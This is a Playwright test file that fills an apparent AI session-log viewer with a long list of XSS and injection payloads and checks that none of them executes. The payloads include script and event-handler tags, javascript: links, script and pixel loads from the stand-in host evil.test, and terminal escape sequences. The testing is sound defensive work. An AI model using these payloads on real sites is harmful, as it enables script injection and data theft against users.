import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { log, root } from '../../src/testing/index.ts'
import { appOn, framesLater, hasChromium, PATIENT, settled, skippedNote } from './app.ts'

const ESC = '\u001b'
const RUN = 'window.__pwn=1;alert(1)'
const AWAY = 'http://evil.test/x'

/** Texts that would run something or load something if a page took them for more than text. */
const PAYLOADS: readonly string[] = [
  // Elements that run by themselves.
  ...['script', 'SCRIPT', 'scr\u0000ipt'].map((tag) => `<${tag}>${RUN}</${tag}>`),
  `<script src=${AWAY}.js></script>`,
  `<script type=module>import '${AWAY}.js'</script>`,
  ...['onerror', 'OnErRoR', 'onerror\n', 'onerror\t'].map((on) => `<img src=x ${on}=${RUN}>`),
  `<img src=x onerror="${RUN}">`,
  `<img/src/onerror=${RUN}>`,
  `<img src="x\`" \`onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">CLICK</math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=${AWAY}.css onload=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}/>`,
  `<form action=${AWAY}><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<a href=.: onclick=${RUN}>x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="${AWAY}.xsl"?>`,
  `</article></div></section><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<mark><img src=x onerror=${RUN}></mark>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  // Links that run.
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    ' javascript:',
    '\u0001javascript:',
    'javascript&colon;',
    '&#106;avascript:',
    '&#x6a;&#x61;vascript:',
    'javascript%3a',
    'vbscript:',
    'data:text/html,<script>',
    'data:text/html;base64,',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'file:///etc/passwd#',
    'blob:http://x/',
    'intent://x#',
    'view-source:',
  ].flatMap((scheme) => [
    `[click](${scheme}${RUN})`,
    `[click](<${scheme}${RUN}>)`,
    `<${scheme}${RUN}>`,
    `[click][r]\n\n[r]: ${scheme}${RUN}`,
    `![alt](${scheme}${RUN})`,
  ]),
  `[click](https://example.org "onmouseover=${RUN}")`,
  `[click](https://example.org" onmouseover="${RUN})`,
  `[click](https://example.org\`onmouseover=${RUN}\`)`,
  `![x"onerror="${RUN}](x)`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  // Pictures from elsewhere.
  `![pixel](${AWAY}.png)`,
  `![pixel][p]\n\n[p]: ${AWAY}.png`,
  `[![pixel](${AWAY}.png)](https://example.org)`,
  `![pixel](//evil.test/x.png)`,
  `<img src="${AWAY}.png">`,
  `<picture><source srcset="${AWAY}.png"><img></picture>`,
  `<div style="background:url(${AWAY}.png)">`,
  `<link rel=preload as=image href=${AWAY}.png>`,
  `<link rel=dns-prefetch href=//evil.test>`,
  `<video poster=${AWAY}.png>`,
  `<svg><image href=${AWAY}.png></svg>`,
  `<input type=image src=${AWAY}.png>`,
  `<style>@import '${AWAY}.css'</style>`,
  // Diagrams, formulas, code.
  `\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${RUN}>"]\nclick A href "javascript:${RUN}"\n\`\`\``,
  `\`\`\`svg\n<svg onload=${RUN}></svg>\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`js onload=${RUN}\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `$$<img src=x onerror=${RUN}>$$`,
  `<code><img src=x onerror=${RUN}></code>`,
  `| a |\n|:-:|\n| <img src=x onerror=${RUN}> |`,
  // A terminal's own.
  `${ESC}]8;;javascript:${RUN}${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}]8;;${AWAY}${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}[31m<img src=x onerror=${RUN}>${ESC}[0m`,
  `${ESC}[<script>${RUN}</script>m`,
  `${ESC}[38;2;"><img src=x onerror=${RUN}>m`,
  `${ESC}]0;<img src=x onerror=${RUN}>\u0007`,
  `${ESC}[31m${'<b>'.repeat(50)}`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}>${'\u0000\u0008\u007f\u009b\u2066\ufeff'.repeat(20_000)}`,
  `__proto__`,
  `constructor`,
]

describe.skipIf(!hasChromium)(`a prompt without an end${skippedNote}`, () => {
  const id = 'dddddddd-0000-4000-8000-000000000001'
  const endless = '\u0000\u0008\u007f\u009b\u2066\ufeff'.repeat(20_000)
  const app = appOn((path) => {
    log({ sessionId: id, seed: 'endless', cwd: '/home/ana/x' }).user(endless).assistant('Done.').write(path)
  })

  test('120,000 control characters are folded, and opened as far as a line can be drawn', async () => {
    const page = await app.open(`/s/${id}`)
    const prompt = page.getByRole('article').first()
    const all = prompt.getByRole('button', { name: /^1(19|20),\d{3} characters · show all$/ })
    await all.waitFor(PATIENT)
    // Of each six characters three are written out with six.
    expect((await prompt.innerText()).length).toBeLessThan(3_000 * 4)
    await all.click()
    await prompt.getByText(/(99|100),\d{3} more characters/).waitFor(PATIENT)
  })
})

describe.skipIf(!hasChromium)(`hostile texts in a session${skippedNote}`, () => {
  const TITLE = `<img src=x onerror=${RUN}>`
  const session = 'aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee'
  const app = appOn((dir) => root().add(hostile()).write(dir))

  function hostile() {
    const built = log({
      sessionId: session,
      cwd: `/tmp/<img src=x onerror=${RUN}>`,
      gitBranch: `"><svg onload=${RUN}>`,
    })
    built.title(TITLE)
    for (const text of PAYLOADS) {
      built
        .user(text)
        .assistant(text, { thinking: text })
        .tool('Bash', { command: text, description: text }, { output: text })
        .tool(text, { [text]: text, list: [text] }, { output: text })
        .edit(`src/${text.replaceAll('/', '|').replaceAll('\u0000', '')}.html`, {
          before: `a\n${text}\n`,
          after: `${text}\nb\n`,
        })
        .tool('WebFetch', { url: text, prompt: text }, { output: text })
        .tool('WebSearch', { query: text }, { output: `Links: ${JSON.stringify([{ title: text, url: text }])}` })
        .tool('Grep', { pattern: text }, { output: `${text}:1:${text}` })
        .todo([text])
    }
    for (const text of PAYLOADS.slice(0, 12)) {
      built.subagent({ type: text, description: text, prompt: text, result: text })
      built.command('/x', { args: text, output: text }).bash(text, text)
      const content = `<teammate-message teammate_id="${text}" color="${text}" summary="${text}">${text}</teammate-message>`
      built.raw((at) => at.row({ type: 'user', origin: { kind: 'peer' }, message: { role: 'user', content } }))
    }
    return built
      .plan(PAYLOADS.join('\n\n'))
      .compact({ summary: PAYLOADS.join('\n\n') })
      .apiError('overloaded')
  }

  test(`none of ${PAYLOADS.length} runs or loads anything, wherever it stands`, { timeout: 300_000 }, async () => {
    const page = await app.open(`/s/${session}`, { viewport: { width: 1280, height: 3000 } })
    const dialogs = watchDialogs(page)
    await page.getByRole('article').first().waitFor()
    let rows = 0
    for (;;) {
      await openAll(page)
      rows = Math.max(rows, await inspect(page))
      const isEnd = await page.evaluate(() => {
        const scroller = document.querySelector('section[aria-label="Conversation"]') as HTMLElement
        const before = scroller.scrollTop
        scroller.scrollTop += 2400
        return scroller.scrollTop === before
      })
      if (isEnd) break
      await framesLater(page)
      await settled(page)
    }
    expect(rows).toBeGreaterThan(PAYLOADS.length * 9)
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
    await expect.poll(() => page.title(), PATIENT).toBe(`${TITLE} · annals`)
    expect(dialogs).toEqual([])
  })

  test('nor on the other pages of the session, nor in what is found', { timeout: 120_000 }, async () => {
    const page = await app.open(`/s/${session}?q=${encodeURIComponent('<img src=x onerror')}`)
    const dialogs = watchDialogs(page)
    await page.getByText(/^1 of \d+ rows/).waitFor()
    await page.getByRole('button', { name: 'Next match' }).click()
    await page.getByText(/^2 of \d+ rows/).waitFor()
    // It is gone to and painted in frames of their own.
    await framesLater(page)
    await settled(page)
    await framesLater(page)
    await inspect(page)
    await page.getByRole('article').first().hover()
    await page.getByRole('button', { name: 'Actions for this row' }).first().click()
    await page.getByRole('button', { name: 'Open raw record' }).click()
    await page.getByRole('dialog').getByText('parentUuid').first().waitFor()
    for (const path of ['tree', 'timeline', 'context', 'files']) {
      await page.goto(`${app.origin}/s/${session}/${path}`)
      await page.getByRole('heading', { name: TITLE }).waitFor()
      await settled(page)
      await page.evaluate(() => {
        for (const fold of document.querySelectorAll<HTMLElement>('main button[aria-expanded="false"]')) fold.click()
      })
      await framesLater(page)
      await settled(page)
      await inspect(page)
    }
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
    expect(dialogs).toEqual([])
  })

  test('nor in who wrote each line', { timeout: 240_000 }, async () => {
    const page = await app.open(`/s/${session}/files`, { viewport: { width: 1280, height: 3000 } })
    page.setDefaultTimeout(120_000)
    const dialogs = watchDialogs(page)
    const files = page.getByRole('list', { name: 'Files' }).locator('button[aria-expanded]')
    await files.first().waitFor()
    for (const at of [0, 1, 2, 3, 4, 5]) {
      await files.nth(at).click()
      await page.getByRole('button', { name: 'Who wrote each line' }).last().click()
      await page.getByRole('region', { name: 'Who wrote each line' }).first().waitFor()
      await settled(page)
      await inspect(page)
      await files.nth(at).click()
    }
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
    expect(dialogs).toEqual([])
  })

  test('nor on the timeline where a pointer rests', { timeout: 240_000 }, async () => {
    const page = await app.open(`/s/${session}/timeline`, { viewport: { width: 1280, height: 2000 } })
    page.setDefaultTimeout(120_000)
    const dialogs = watchDialogs(page)
    const chart = page.locator('main svg[role=img]')
    await chart.waitFor()
    // What comes above it would move it.
    await settled(page)
    const box = await chart.boundingBox()
    if (!box) throw new Error('The timeline is not drawn.')
    const told = new Set<string>()
    for (const y of [30, 60]) {
      for (let x = 2; x < box.width; x += 5) {
        await page.mouse.move(box.x + x, box.y + y)
        told.add(await page.evaluate(() => document.querySelector('[role=tooltip]')?.textContent ?? ''))
      }
      await inspect(page)
    }
    expect([...told].filter((text) => text.includes('\u202e'))).toEqual([])
    // What would turn the words round has been there, written out.
    expect([...told].join()).toContain('⟨202E⟩')
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
    expect(dialogs).toEqual([])
  })
})

function watchDialogs(page: Page): string[] {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  return dialogs
}

async function openAll(page: Page): Promise<void> {
  for (let round = 0; round < 3; round++) {
    const opened = await page.evaluate(() => {
      const folds = document.querySelectorAll<HTMLElement>('article [aria-expanded="false"]:not([aria-label])')
      for (const fold of folds) fold.click()
      return folds.length
    })
    if (opened === 0) return
    await framesLater(page)
    await settled(page)
  }
}

/** Looks for anything in the page that is more than text, and gives the number of the last row drawn. */
async function inspect(page: Page): Promise<number> {
  const found = await page.evaluate(() => {
    const main = document.querySelector('main') as HTMLElement
    const active = [...main.querySelectorAll('script,iframe,object,embed,form,base,meta,link,style,video,audio,math')]
    const handlers = [...main.querySelectorAll('*')].filter((element) =>
      [...element.attributes].some(({ name }) => name.startsWith('on')),
    )
    const links = [...main.querySelectorAll('a[href]')].filter((link) => {
      const { protocol } = new URL(link.getAttribute('href') ?? '', location.href)
      return !['http:', 'https:', 'mailto:'].includes(protocol)
    })
    const pictures = [...main.querySelectorAll('img')].filter(({ src }) => !src.startsWith('data:image/'))
    const foreign = [...main.querySelectorAll('article svg, article image')]
    const odd = [...active, ...handlers, ...links, ...pictures, ...foreign].map((element) =>
      element.outerHTML.slice(0, 200),
    )
    const last = [...main.querySelectorAll('[data-index]')].at(-1)?.getAttribute('data-index') ?? '0'
    return { odd, last: Number(last), isTurned: /[\u202a-\u202e]/.test(main.textContent ?? '') }
  })
  expect([found.odd, found.isTurned]).toEqual([[], false])
  return found.last
}
